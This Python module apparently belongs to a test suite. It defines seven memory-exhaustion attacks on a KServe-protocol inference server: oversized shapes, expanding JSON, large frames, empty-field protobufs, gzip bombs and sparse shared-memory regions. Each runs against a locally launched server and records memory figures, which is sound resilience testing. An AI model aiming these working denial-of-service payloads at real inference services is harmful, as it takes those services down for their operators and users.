"""Requests that are small, and become large: shapes, JSON, parsed headers, compressed messages, shared memory."""

import json
import os
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from http.client import HTTPConnection
from pathlib import Path

import grpc

from kserve_wire.fields import delimited, delimited_tag
from kserve_wire.messages import ModelInferRequest, SystemSharedMemoryRegisterRequest
from kserve_wire.names import method_path
from tools.attacks.base import Attack, Figure
from tools.attacks.graph_server import MIB, UNLIMITED, attacked_server, call, in_parallel, infer

INFER = "/v2/models/passThrough/infer"


def post(address: str, path: str, body: bytes, **headers: str) -> int:
    """The HTTP status, 0 for a connection that broke."""
    connection = HTTPConnection(address, timeout=60)
    try:
        connection.request("POST", path, body, {name.replace("_", "-"): value for name, value in headers.items()})
        return connection.getresponse().status
    except OSError:
        return 0
    finally:
        connection.close()


def shapes(short: bool) -> Sequence[Figure]:
    """A shape of many large dimensions: its product has millions of digits."""
    count = 50_000 if short else 400_000
    body = json.dumps({"inputs": [{"name": "x", "datatype": "FP32", "shape": [2**31 - 1] * count}]}).encode()
    with attacked_server() as server:
        post(server.rest, "/v2/models/nobody/infer", body)
        post(server.rest, INFER, body)
        for name in ("passThrough", "nobody"):
            call(server.grpc, infer(name, shape=[2**62] * count).SerializeToString())
    return server.figures(300)


def json_bodies(short: bool) -> Sequence[Figure]:
    """Eight bodies of JSON at once, which take 27 times their size as objects."""
    head, unit, tail = b'{"inputs":[{"name":"x","datatype":"FP32","shape":[1],"data":[', b"{},", b"1]}]}"
    sizes = [1, 2, 32] if short else [1, 2, 4, 16, 50, 255]
    with attacked_server() as server:
        for size in sizes:
            body = head + unit * ((size * MIB - len(head) - len(tail)) // len(unit)) + tail
            in_parallel(8, lambda _, body=body: post(server.rest, INFER, body))  # type: ignore[misc]
    # What --grpc_memory_quota gives to bodies, and an eighth of it for what they become.
    return server.figures(2048 + 256 + 100)


def json_answers(short: bool) -> Sequence[Figure]:
    """A frame in binary whose answer is asked for as JSON."""
    size = (24 if short else 120) * MIB // 3 * 3
    head = json.dumps(
        {
            "inputs": [{"name": "image", "datatype": "UINT8", "shape": [1, size // 3, 3]}],
            "outputs": [{"name": "output"}],
        }
    ).encode()
    with attacked_server() as server:
        in_parallel(
            4, lambda _: post(server.rest, INFER, head + bytes(size), Inference_Header_Content_Length=str(len(head)))
        )
    return server.figures(4 * 5 * size / MIB + 256)


def large_frames(short: bool) -> Sequence[Figure]:
    """Eight frames at once, of 4K or of 8K, by gRPC and by REST: each is copied several times."""
    height, width = (2160, 3840) if short else (4320, 7680)
    size = height * width * 3
    data = infer(shape=(height, width, 3), size=size).SerializeToString()
    head = json.dumps(
        {
            "inputs": [{"name": "image", "datatype": "UINT8", "shape": [height, width, 3]}],
            "outputs": [{"name": "output", "parameters": {"binary_data": True}}],
        }
    ).encode()
    with attacked_server() as server:
        in_parallel(8, lambda _: call(server.grpc, data))
        in_parallel(
            8, lambda _: post(server.rest, INFER, head + bytes(size), Inference_Header_Content_Length=str(len(head)))
        )
    return server.figures(8 * 5 * size / MIB + 256)


def headers(short: bool) -> Sequence[Figure]:
    """Messages of many empty fields, each of which becomes an object."""
    sizes = (8, 15) if short else (8, 15, 60, 120)
    contents = delimited_tag(ModelInferRequest.InferInputTensor.CONTENTS_FIELD_NUMBER)
    inputs = delimited_tag(ModelInferRequest.INPUTS_FIELD_NUMBER)
    start = ModelInferRequest(model_name="passThrough").SerializeToString()
    with attacked_server() as server:
        for size in sizes:
            texts = b"\x42\x00" * (size * MIB // 2)
            data = start + b"".join(delimited(inputs, [b"".join(delimited(contents, [texts]))]))
            in_parallel(8 if size < 100 else 2, lambda _, data=data: call(server.grpc, data))  # type: ignore[misc]
    # The quota, and the messages themselves: each is there twice while it is handed over.
    return server.figures(2048 + 2 * 8 * 60)


def compressed(short: bool) -> Sequence[Figure]:
    """Messages of a few hundred kilobytes that gRPC unpacks to the largest that is allowed."""
    size, number = (30, 8) if short else (120, 24)
    data = infer(size=size * MIB // 3 * 3).SerializeToString()
    with attacked_server("--grpc_memory_quota", str(256 * MIB)) as server:
        in_parallel(number, lambda _: call(server.grpc, data, compression=grpc.Compression.Gzip))
    return server.figures(256 + 6 * 256)


@contextmanager
def shared_file(size: int) -> Iterator[str]:
    """A sparse file in shared memory: its owner pays nothing for it."""
    path = Path("/dev/shm") / f"attack-{os.getpid()}"
    with path.open("wb") as file:
        file.truncate(size)
    try:
        yield path.name
    finally:
        path.unlink()


def shared_memory_inputs(short: bool) -> Sequence[Figure]:
    """Calls of 200 bytes that name 191 MiB in shared memory."""
    size, number = (200_000_000 // 12_000 * 12_000, 12 if short else 100)
    made = infer(shape=[size // 12_000, 4000, 3])
    del made.raw_input_contents[:]
    for item in (made.inputs[0], made.outputs.add(name="output")):
        item.parameters["shared_memory_region"].string_param = "r"
        item.parameters["shared_memory_byte_size"].int64_param = size
    quota = ("--grpc_memory_quota", str(256 * MIB))
    with shared_file(size) as name, attacked_server(*quota) as server:  # noqa: SIM117 - the channel needs the address
        with grpc.insecure_channel(server.grpc, UNLIMITED) as channel:
            register: grpc.UnaryUnaryMultiCallable[bytes, bytes] = channel.unary_unary(
                method_path("SystemSharedMemoryRegister")
            )
            region = SystemSharedMemoryRegisterRequest(name="r", key=f"/{name}", byte_size=size)
            register(region.SerializeToString(), timeout=10)
            method: grpc.UnaryUnaryMultiCallable[bytes, bytes] = channel.unary_unary(method_path("ModelInfer"))
            for future in [method.future(made.SerializeToString(), timeout=60) for _ in range(number)]:
                future.exception()
    return server.figures(256 + 100)


ATTACKS = (
    Attack("shapes of many dimensions", "server", shapes),
    Attack("JSON that becomes objects", "server", json_bodies),
    Attack("JSON of a large answer", "server", json_answers),
    Attack("large frames", "server", large_frames),
    Attack("messages of empty fields", "server", headers),
    Attack("compressed messages", "server", compressed),
    Attack("inputs in shared memory", "server", shared_memory_inputs),
)
